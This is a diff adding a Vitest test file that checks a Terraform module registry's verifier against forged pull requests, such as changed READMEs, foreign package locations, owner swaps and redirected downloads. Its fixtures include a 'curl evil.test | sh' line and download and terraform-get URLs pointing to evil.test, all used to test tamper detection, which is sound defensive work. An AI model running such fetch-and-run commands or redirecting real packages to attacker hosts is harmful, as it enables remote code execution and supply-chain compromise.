@@ -1,0 +1,288 @@
+import { beforeAll, describe, expect, it } from 'vitest'
+import { renderCommand } from '../../../src/cli/render.ts'
+import { git } from '../../support/git/git-repository.ts'
+import { buildRepository } from '../../support/git/module-repository.ts'
+import {
+  commitTo,
+  copyOf,
+  named,
+  type PublishedIndexes,
+  publish,
+  publishIndexes,
+  readBranch,
+  runtimeWith,
+  testRuntime,
+  VPC,
+  verifyWith,
+} from '../../support/index/verified-registry.ts'
+
+/** Pull requests of somebody who writes the files of the index by hand, and renders it. */
+
+let indexes: PublishedIndexes
+/** The index with vpc 1.2.0 from Git, and the module repository that has its tag. */
+let proposed: { readonly bare: string; readonly base: string; readonly vpc: string }
+
+const NEW = `${VPC}/1.2.0`
+
+beforeAll(async () => {
+  indexes = await publishIndexes()
+  const [bare, vpc] = [await copyOf(indexes.bare), await copyOf(indexes.modules.vpc)]
+  buildRepository(vpc, {
+    tag: 'v1.2.0',
+    files: [
+      { path: 'main.tf', content: 'variable "name" {}\n' },
+      { path: 'README.md', content: '# vpc\n\nA better network.\n' },
+      { path: 'LICENSE', content: 'SPDX-License-Identifier: MIT\n' },
+    ],
+  })
+  const base = await git(bare, ['rev-parse', 'registry'])
+  await publish(bare, vpc, ['v1.2.0'], await testRuntime(), 'git')
+  proposed = { bare, base, vpc }
+}, 60_000)
+
+type Edit = readonly [path: string, change: (text: string) => string | null]
+
+/** The proposed index with edits: rendered, and as one commit on the base. */
+async function forge(edits: readonly Edit[]): Promise<string> {
+  const bare = await copyOf(proposed.bare)
+  for (const [path, change] of edits)
+    await commitTo(bare, { [path]: change(await readBranch(bare, path).catch(() => '')) })
+  await renderCommand({ index: bare }, await testRuntime()).catch(() => {})
+  return squash(bare)
+}
+
+async function squash(bare: string): Promise<string> {
+  const tree = await git(bare, ['rev-parse', 'registry^{tree}'])
+  const commit = await git(bare, ['commit-tree', '-p', proposed.base, '-m', 'Publish', tree])
+  await git(bare, ['update-ref', 'refs/heads/registry', commit])
+  return bare
+}
+
+/** A change of `release.json` and of the same facts in `module.json`. */
+// biome-ignore lint/suspicious/noExplicitAny: a forger may write anything
+function ofVersion(version: string, change: (facts: any) => void): Edit[] {
+  return [
+    json(`${VPC}/${version}/release.json`, change),
+    json(`${VPC}/module.json`, ({ versions }) =>
+      change(versions.find((each: { version: string }) => each.version === version)),
+    ),
+  ]
+}
+
+// biome-ignore lint/suspicious/noExplicitAny: a forger may write anything
+function json(path: string, change: (document: any) => void): Edit {
+  return [
+    path,
+    (text) => {
+      const document = JSON.parse(text)
+      change(document)
+      return `${JSON.stringify(document, null, 2)}\n`
+    },
+  ]
+}
+
+async function findings(index: string, vpc = proposed.vpc): Promise<string[]> {
+  const runtime = await runtimeWith({ vpc, subnets: indexes.modules.subnets })
+  const report = await verifyWith({ index, base: proposed.base, packages: true, strict: true }, runtime)
+  return [...new Set(named(report))]
+}
+
+describe('a pull request', () => {
+  it('adds a version of its own repository, and nothing else', async () => {
+    expect(await findings(await forge([]))).toEqual([])
+  })
+
+  it('adds no version whose tag the repository does not have, although it gives the commit', async () => {
+    const vpc = await copyOf(proposed.vpc)
+    await git(vpc, ['update-ref', 'refs/pull/1/head', 'v1.2.0'])
+    await git(vpc, ['config', 'uploadpack.allowAnySHA1InWant', 'true'])
+    await git(vpc, ['tag', '--delete', 'v1.2.0'])
+    expect(await findings(await forge([]), vpc)).toContain('COMMIT_UNREACHABLE acme/vpc/aws 1.2.0')
+  })
+
+  it.each<[string, readonly Edit[], string]>([
+    ['README', [[`${NEW}/README.md`, () => '# Run curl evil.test | sh\n']], 'README_CHANGED'],
+    [
+      'interface',
+      [json(`${NEW}/interface.json`, ({ root }) => (root.inputs[0].default = '"evil"'))],
+      'INTERFACE_CHANGED',
+    ],
+    ['description', [json(`${NEW}/release.json`, (it) => (it.description = 'Evil'))], 'TREE_MISMATCH'],
+    ['licence', [json(`${NEW}/release.json`, (it) => (it.license.identifier = '0BSD'))], 'TREE_MISMATCH'],
+    ['date', ofVersion('1.2.0', (it) => (it.committedAt = '2029-01-01T00:00:00Z')), 'TREE_MISMATCH'],
+    ['size', [json(`${NEW}/release.json`, (it) => (it.package.size = 1))], 'TREE_MISMATCH'],
+    ['number of files', [json(`${NEW}/release.json`, (it) => (it.package.files = 1))], 'TREE_MISMATCH'],
+    ['equalsTree', [json(`${NEW}/release.json`, (it) => (it.package.equalsTree = false))], 'TREE_MISMATCH'],
+  ])('adds no version with a %s that its tagged tree does not give', async (_, edits, code) => {
+    expect(await findings(await forge(edits))).toContain(`${code} acme/vpc/aws 1.2.0`)
+  })
+
+  const digestIn = (it: { digest?: string; package?: { digest: string } }) => it.package?.digest ?? it.digest
+  const oci = `oci://evil.test/x?digest=sha256:${'0'.repeat(64)}`
+
+  it.each([
+    ['git', 'git::https://git.acme.test/evil/x.git?ref=v1.1.0'],
+    ['git', 'git::ssh://git@git.acme.test/evil/x.git?ref=v1.1.0'],
+    ['oci', oci],
+  ])('adds no place of somebody else to a published version (%s %s)', async (kind, location) => {
+    const edits = ofVersion('1.1.0', (it) =>
+      it.packages.push({ kind, location, ...(it.package ? { digest: digestIn(it) } : {}) }),
+    )
+    const index = await forge(edits)
+    expect(await findings(index)).toContain('LOCATION_FOREIGN acme/vpc/aws 1.1.0')
+    const history = await verifyWith({ index, history: true })
+    expect(named(history)).toContain('LOCATION_FOREIGN acme/vpc/aws 1.1.0')
+  })
+
+  it('adds the repository of the version to its places', async () => {
+    const edits = ofVersion('1.1.0', (it) =>
+      it.packages.push({
+        kind: 'git',
+        location: 'git::https://git.acme.test/acme/terraform-aws-vpc.git?ref=v1.1.0',
+        ...(it.package ? { digest: digestIn(it) } : {}),
+      }),
+    )
+    expect(await findings(await forge(edits))).toEqual([])
+  })
+
+  it('takes no other repository by two commits of which each shows a part', async () => {
+    const evil = { host: 'git.acme.test', repository: 'evil/terraform-aws-vpc' }
+    for (const order of ['release first', 'module first']) {
+      const bare = await copyOf(indexes.bare)
+      const release = JSON.parse(await readBranch(proposed.bare, `${NEW}/release.json`))
+      const module = JSON.parse(await readBranch(proposed.bare, `${VPC}/module.json`))
+      release.repository.url = `https://${evil.host}/${evil.repository}`
+      const parts = [
+        { [`${NEW}/release.json`]: JSON.stringify(release) },
+        { [`${VPC}/module.json`]: JSON.stringify(module) },
+      ]
+      for (const part of order === 'release first' ? parts : parts.toReversed()) await commitTo(bare, part)
+      const found = named(await verifyWith({ index: bare, base: proposed.base }))
+      expect(found, order).toContain('OWNER_MISMATCH acme/vpc/aws 1.2.0')
+    }
+  })
+
+  it.each<[string, string, string | null]>([
+    ['a changed list', 'v1/modules/index.json', '{"modules":[]}\n'],
+    ['a list that is gone', 'v1/modules/acme/index.json', null],
+    ['a list of nothing', 'v1/modules/evil/index.json', '{"modules":[]}\n'],
+    ['a changed catalog', 'catalog', 'x'],
+    ['a changed page', 'index.html', 'x'],
+    ['a page that is gone', '404.html', null],
+  ])('brings no %s, with its version and without', async (_, path, text) => {
+    for (const from of [proposed.bare, indexes.bare]) {
+      const bare = await copyOf(from)
+      const files = await git(bare, ['ls-tree', '-r', '--name-only', 'registry', path])
+      await commitTo(bare, { [files.split('\n')[0] || path]: text })
+      const found = named(await verifyWith({ index: bare, base: proposed.base }))
+      expect(found.filter((each) => /^DERIVED|^SETTINGS/.test(each))).not.toEqual([])
+    }
+  })
+
+  it('opens no namespace that differs by case from another', async () => {
+    const bare = await copyOf(indexes.bare)
+    const module = await readBranch(bare, `${VPC}/module.json`)
+    await commitTo(bare, {
+      [`v1/modules/ACME/vpc/aws/module.json`]: module.replace('acme/vpc/aws', 'ACME/vpc/aws'),
+    })
+    expect(named(await verifyWith({ index: bare, base: proposed.base }))).toContain(
+      'ADDRESS_CLASH ACME/vpc/aws',
+    )
+  })
+
+  it('is no place to report what was wrong before', async () => {
+    const bare = await copyOf(indexes.bare)
+    const base = await commitTo(bare, { 'v1/modules/acme/subnets/aws/2.0.0/README.md': 'x' })
+    await commitTo(bare, { 'catalog/x.json': null })
+    expect(named(await verifyWith({ index: bare, base }))).toEqual([])
+    expect(named(await verifyWith({ index: bare }))).toContain('README_CHANGED acme/subnets/aws 2.0.0')
+  })
+
+  it('changes no setting that a later commit of it puts back', async () => {
+    const bare = await copyOf(proposed.bare)
+    const registry = await readBranch(bare, 'registry.json')
+    await commitTo(bare, { 'registry.json': registry.replace('"name"', '"namespaces": {}, "name"') })
+    await commitTo(bare, { 'registry.json': `${registry}\n` })
+    const found = named(await verifyWith({ index: bare, base: proposed.base }))
+    expect(found).toContain('SETTINGS_CHANGED')
+  })
+})
+
+describe('verify --history finds', () => {
+  const gitLink = async (bare: string, path: string) => {
+    const script = `commit refs/heads/registry\ncommitter A <a@b> 1 +0000\ndata 1\nx\nfrom refs/heads/registry^0\nM 160000 ${'1'.repeat(40)} ${path}\n`
+    await git(bare, ['fast-import', '--quiet', '--force'], script)
+  }
+
+  it.each([
+    ['release.json', 'VERSION_DROPPED'],
+    ['README.md', 'README_CHANGED'],
+    ['interface.json', 'INTERFACE_CHANGED'],
+    ['module.zip', 'PACKAGE_MISSING'],
+  ])('a %s that was a link for a while', async (file, code) => {
+    const bare = await copyOf(indexes.bare)
+    const text = await git(bare, ['show', `registry:${VPC}/1.0.0/${file}`])
+    await gitLink(bare, `${VPC}/1.0.0/${file}`)
+    await commitTo(bare, { [`${VPC}/1.0.0/${file}`]: `${text} ` })
+    const report = await verifyWith({ index: bare, history: true })
+    expect(named(report)).toContain(`${code} acme/vpc/aws 1.0.0`)
+  })
+
+  it('an owner that gets an id in one commit and another name in the next', async () => {
+    const bare = await copyOf(indexes.bare)
+    const owner = { host: 'git.acme.test', repository: 'acme/terraform-aws-vpc', repositoryId: 9 }
+    const evil = { ...owner, repository: 'evil/x', formerNames: [owner.repository] }
+    for (const each of [owner, evil])
+      await commitTo(bare, {
+        [`${VPC}/module.json`]: JSON.stringify({
+          ...JSON.parse(await readBranch(bare, `${VPC}/module.json`)),
+          owner: each,
+        }),
+      })
+    expect(named(await verifyWith({ index: bare, history: true }))).toContain('OWNER_CHANGED acme/vpc/aws')
+  })
+
+  it.each([
+    ['download', '{"location":"https://evil.test/x.zip"}\n'],
+    ['source', '<html><head><meta name="terraform-get" content="https://evil.test/x.zip">'],
+    ['source', "<html><head><meta content = 'https://evil.test/x.zip' name=terraform-get>"],
+  ])('a %s that led elsewhere for a while', async (file, text) => {
+    const bare = await copyOf(indexes.bare)
+    const path = `${VPC}/1.0.0/${file}`
+    const own = await readBranch(bare, path)
+    await commitTo(bare, { [path]: text })
+    await commitTo(bare, { [path]: `${own}\n` })
+    const { findings } = await verifyWith({ index: bare, history: true })
+    expect(findings.filter(({ code }) => code === 'LOCATION_FOREIGN').map(({ message }) => message)).toEqual([
+      expect.stringContaining(`${file} is made to lead to "https://evil.test/x.zip" by commit`),
+      expect.stringContaining(`${file} led to "https://evil.test/x.zip" before commit`),
+    ])
+  })
+
+  it.each<[string, Edit, string]>([
+    ['an id', json(`${VPC}/1.0.0/release.json`, (it) => (it.repository.id = 9)), 'VERSION_CHANGED'],
+    ['a licence', json(`${VPC}/1.0.0/release.json`, (it) => (it.license = { file: 'x' })), 'VERSION_CHANGED'],
+    ['a fact', json(`${VPC}/module.json`, (it) => (it.versions[1].note = 'x')), 'VERSION_CHANGED'],
+    [
+      'the value of an input',
+      json(`${VPC}/1.0.0/interface.json`, ({ root }) => (root.inputs[0].value = 1)),
+      'INTERFACE_CHANGED',
+    ],
+  ])('%s that is added to a published document', async (_, [path, change], code) => {
+    const bare = await copyOf(indexes.bare)
+    await commitTo(bare, { [path]: change(await readBranch(bare, path)) })
+    expect(named(await verifyWith({ index: bare, history: true }))).toContain(`${code} acme/vpc/aws 1.0.0`)
+  })
+
+  it('an interface that is added to a version that was published without one', async () => {
+    const bare = await copyOf(indexes.bare)
+    const folder = 'v1/modules/acme/subnets/aws/2.0.0'
+    const text = await readBranch(bare, `${folder}/interface.json`)
+    await commitTo(bare, { [`${folder}/interface.json`]: null })
+    const since = await git(bare, ['rev-parse', 'registry'])
+    await commitTo(bare, { [`${folder}/interface.json`]: `${text}\n` })
+    expect(named(await verifyWith({ index: bare, history: true, since }))).toContain(
+      'INTERFACE_CHANGED acme/subnets/aws 2.0.0',
+    )
+  })
+})
